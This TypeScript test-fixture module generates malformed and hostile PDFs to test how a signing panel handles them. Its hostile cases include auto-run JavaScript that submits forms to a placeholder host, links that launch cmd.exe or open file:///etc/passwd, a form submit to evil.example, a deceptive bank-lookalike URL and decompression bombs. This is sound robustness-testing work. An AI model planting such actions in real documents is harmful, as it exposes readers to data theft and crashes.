import type { PageBox } from '../../src/schema/placement.js';
import type { ErrorCode } from '../../src/schema/problem.js';
import { bomb } from './bomb.js';
import { encryptedPage } from './encryption.js';
import { latin1, onePage, rawPdf, stream } from './raw-pdf.js';

/** A file that somebody may put into an envelope, and what becomes of it in the panel. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: () => Uint8Array<ArrayBuffer> | Promise<Uint8Array<ArrayBuffer>>;
  /** The pages as the envelope has them. */
  readonly pages: readonly PageBox[];
  readonly outcome: 'ok' | ErrorCode;
}

export const PASSWORD = 'yuanjing-2026';

export const boxed = (change: Partial<PageBox> = {}): PageBox => ({
  cropBox: [0, 0, 300, 400],
  rotation: 0,
  userUnit: 1,
  ...change,
});

const repeat = (count: number): PageBox[] => Array.from({ length: count }, () => boxed());

/** A file whose every page is written out. */
export function manyPages(count: number): Uint8Array<ArrayBuffer> {
  const kids = Array.from({ length: count }, (_, index) => `${index + 4} 0 R`).join(' ');
  return rawPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Pages /Kids [${kids}] /Count ${count} /MediaBox [0 0 300 400] >>`,
      stream('1 0 0 rg 40 40 120 30 re f'),
      ...Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R /Contents 3 0 R >>'),
    ],
  });
}

/** A page below `depth` branches of the page tree. */
function deepTree(depth: number): Uint8Array<ArrayBuffer> {
  const branch = (index: number): string => {
    const parent = index === 0 ? '' : `/Parent ${index + 1} 0 R`;
    return `<< /Type /Pages ${parent} /Kids [${index + 3} 0 R] /Count 1 >>`;
  };
  return rawPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from({ length: depth }, (_, index) => branch(index)),
      `<< /Type /Page /Parent ${depth + 1} 0 R /MediaBox [0 0 300 400] >>`,
    ],
  });
}

/** A file whose text is Chinese and whose font only has a name. */
function withoutFont(): Uint8Array<ArrayBuffer> {
  const hex = [...'甲方盖章处'].map((sign) => sign.charCodeAt(0).toString(16).padStart(4, '0')).join('');
  return onePage({
    page: '/Resources << /Font << /F 5 0 R >> >>',
    content: stream(`BT /F 24 Tf 40 200 Td <${hex}> Tj ET`),
    more: [
      '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>',
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /FontDescriptor 7 0 R /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> >>',
      '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
    ],
  });
}

const whole = (): Uint8Array<ArrayBuffer> => onePage();

export const damaged: readonly HostileFile[] = [
  { name: 'no bytes at all', bytes: () => new Uint8Array(), pages: [boxed()], outcome: 'file-damaged' },
  {
    name: 'garbage',
    bytes: () => Uint8Array.from({ length: 4096 }, (_, index) => (index * 7919 + 13) % 251),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'a web page in the place of the file',
    bytes: () => latin1('\n<!DOCTYPE html><html><title>Sign in</title><form action="/login"></form></html>'),
    pages: [boxed()],
    outcome: 'bad-response',
  },
  {
    name: 'cut off in its first object',
    bytes: () => whole().slice(0, 60),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'cut off behind its objects',
    bytes: () => whole().slice(0, -150),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'cut off in its last line',
    bytes: () => whole().slice(0, -18),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'a cross-reference table that points elsewhere',
    bytes: () => onePage({ shift: 17 }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'no pages',
    bytes: () => rawPdf({ objects: ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>'] }),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'a page tree in a circle',
    bytes: () =>
      rawPdf({
        objects: [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
          '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>',
        ],
      }),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'a page tree of 3,000 levels',
    bytes: () => deepTree(3000),
    pages: [boxed({ cropBox: [0, 0, 300, 400] })],
    outcome: 'ok',
  },
  {
    name: 'arrays in arrays, 100,000 deep',
    bytes: () => onePage({ page: `/Resources ${'['.repeat(100_000)}${']'.repeat(100_000)}` }),
    pages: [boxed()],
    outcome: 'file-damaged',
  },
  {
    name: 'a form that draws itself',
    bytes: () =>
      onePage({
        page: '/Resources << /XObject << /X 5 0 R >> >>',
        content: stream('/X Do'),
        more: [
          stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 300 400] /Resources << /XObject << /X 5 0 R >> >>'),
        ],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'more pages than the envelope says',
    bytes: () => manyPages(3),
    pages: repeat(2),
    outcome: 'document-changed',
  },
  {
    name: 'fewer pages than the envelope says',
    bytes: () => manyPages(1),
    pages: repeat(2),
    outcome: 'document-changed',
  },
  {
    name: 'a page of another size than the envelope says',
    bytes: () => onePage({ box: '0 0 500 400' }),
    pages: [boxed()],
    outcome: 'document-changed',
  },
];

export const odd: readonly HostileFile[] = [
  ...([90, 180, 270] as const).map((rotation) => ({
    name: `a page turned by ${rotation}`,
    bytes: () => onePage({ page: `/Rotate ${rotation}` }),
    pages: [boxed({ rotation })],
    outcome: 'ok' as const,
  })),
  {
    name: 'a page turned by more than once around',
    bytes: () => onePage({ page: '/Rotate 450' }),
    pages: [boxed({ rotation: 90 })],
    outcome: 'ok',
  },
  {
    // readers take a sheet of US Letter then
    name: 'a page box of no size',
    bytes: () => onePage({ box: '0 0 0 0' }),
    pages: [boxed({ cropBox: [0, 0, 612, 792] })],
    outcome: 'ok',
  },
  {
    name: 'a crop box that begins below zero',
    bytes: () => onePage({ box: '-200 -300 300 400', page: '/CropBox [-120 -77.5 180 322.5]' }),
    pages: [boxed({ cropBox: [-120, -77.5, 180, 322.5] })],
    outcome: 'ok',
  },
  {
    name: 'a user unit',
    bytes: () => onePage({ page: '/UserUnit 2.5' }),
    pages: [boxed({ userUnit: 2.5 })],
    outcome: 'ok',
  },
  {
    name: 'a page box of 200 m',
    bytes: () => onePage({ box: '0 0 570000 570000' }),
    pages: [boxed({ cropBox: [0, 0, 570_000, 570_000] })],
    outcome: 'ok',
  },
  { name: '2,000 pages', bytes: () => manyPages(2000), pages: repeat(2000), outcome: 'ok' },
  { name: 'Chinese without an embedded font', bytes: withoutFont, pages: [boxed()], outcome: 'ok' },
  {
    name: 'a font that does not exist',
    bytes: () =>
      onePage({
        page: '/Resources << /Font << /F << /Type /Font /Subtype /TrueType /BaseFont /Nowhere >> >> >>',
        content: stream('BT /F 24 Tf 40 200 Td (Nowhere) Tj ET'),
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'an XFA form',
    bytes: () =>
      onePage({
        catalog: '/NeedsRendering true /AcroForm << /Fields [] /XFA 5 0 R >>',
        more: [stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'a signature that is there already',
    bytes: () =>
      onePage({
        catalog: '/AcroForm << /SigFlags 3 /Fields [5 0 R] >>',
        page: '/Annots [5 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /Rect [20 20 120 60] /P 3 0 R /V 6 0 R >>',
          `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 10 20 30] /Contents <${'00'.repeat(512)}> >>`,
        ],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'a script that runs when it is opened',
    bytes: () =>
      onePage({
        catalog:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://example.invalid/"\\)) >>',
        page: '/AA << /O << /S /JavaScript /JS (app.launchURL\\("https://example.invalid/"\\)) >> >>',
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'links that start programs and open addresses',
    bytes: () =>
      onePage({
        page: '/Annots [5 0 R 6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (cmd.exe) >> >>',
          '<< /Type /Annot /Subtype /Link /Rect [0 200 300 400] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
        ],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'links that lead nowhere, in circles and out of the file',
    bytes: () =>
      onePage({
        catalog: '/Dests << /Loop /Loop /Deep 7 0 R >>',
        page: '/Annots [5 0 R 6 0 R << >> null 99 0 R 8 0 R 9 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /Dest /Loop >>',
          '<< /Type /Annot /Subtype /Link /Rect [0 200 300] /Dest [99 0 R /XYZ null null null] >>',
          '<< /D [3 0 R /FitR (a) (b) (c) (d)] >>',
          '<< /Type /Annot /Subtype /Link /Rect [1e30 -1e30 1 1] /Dest [-1 /XYZ 1e30 1e30 0] >>',
          '<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A << /S /GoToR /F (\\\\server\\share\\a.exe) /D [0 /Fit] >> >>',
        ],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: '20,000 links on one page',
    bytes: () =>
      onePage({
        page: `/Annots [${'5 0 R '.repeat(20_000)}]`,
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [10 10 20 20] /A << /S /URI /URI (https://example.invalid/) >> >>',
        ],
      }),
    pages: [boxed()],
    outcome: 'ok',
  },
  {
    name: 'a password of the owner only',
    bytes: () => encryptedPage({ owner: 'owner' }),
    pages: [boxed()],
    outcome: 'ok',
  },
];

/** Opened only by who knows `PASSWORD`. */
export const withPassword = (): Promise<Uint8Array<ArrayBuffer>> => encryptedPage({ user: PASSWORD, owner: 'owner' });

/** A few kilobytes whose page is gigabytes of spaces. */
export const withBomb = async (): Promise<Uint8Array<ArrayBuffer>> =>
  onePage({ content: stream(await bomb(2 ** 31), '/Filter [/FlateDecode /FlateDecode]') });

/** Five pages, of which one is such a bomb. */
export async function bombAmong(pageIndex: number): Promise<Uint8Array<ArrayBuffer>> {
  const pages = Array.from({ length: 5 }, (_, index) => (index === pageIndex ? 9 : 8));
  return rawPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R 4 0 R 5 0 R 6 0 R 7 0 R] /Count 5 /MediaBox [0 0 300 400] >>',
      ...pages.map((content) => `<< /Type /Page /Parent 2 0 R /Contents ${content} 0 R >>`),
      stream('1 0 0 rg 40 40 120 30 re f'),
      stream(await bomb(2 ** 31), '/Filter [/FlateDecode /FlateDecode]'),
    ],
  });
}

/** Three pages; the links of the first one, from its top down, each 20 points high. */
export function withLinks(): Uint8Array<ArrayBuffer> {
  const targets = [
    '/Dest [7 0 R /XYZ 20 300 null]',
    '/Dest (second)',
    '/A << /S /Named /N /NextPage >>',
    '/A << /S /URI /URI (https://bank.example@evil.example/login?a=1) >>',
    '/A << /S /URI /URI (javascript:window.stolen=1) >>',
    '/A << /S /Launch /F (cmd.exe) >>',
    '/A << /S /URI /URI (file:///etc/passwd) >>',
    '/A << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/A << /S /SubmitForm /F (https://evil.example/) >>',
    '/Dest (nowhere)',
  ];
  const links = targets.map((target, index) => {
    const top = 390 - index * 30;
    return `<< /Type /Annot /Subtype /Link /Border [0 0 0] /Rect [20 ${top - 20} 220 ${top}] ${target} >>`;
  });
  const page = (entries = ''): string =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R ${entries} >>`;
  return rawPdf({
    objects: [
      '<< /Type /Catalog /Pages 2 0 R /Names << /Dests << /Names [(second) [6 0 R /Fit]] >> >> >>',
      '<< /Type /Pages /Kids [3 0 R 6 0 R 7 0 R] /Count 3 >>',
      page(`/Annots [${links.join(' ')}]`),
      stream('1 0 0 rg 40 40 120 30 re f'),
      undefined,
      page(),
      page('/Rotate 90'),
    ],
  });
}

export const linkedPages: readonly PageBox[] = [boxed(), boxed(), boxed({ rotation: 90 })];
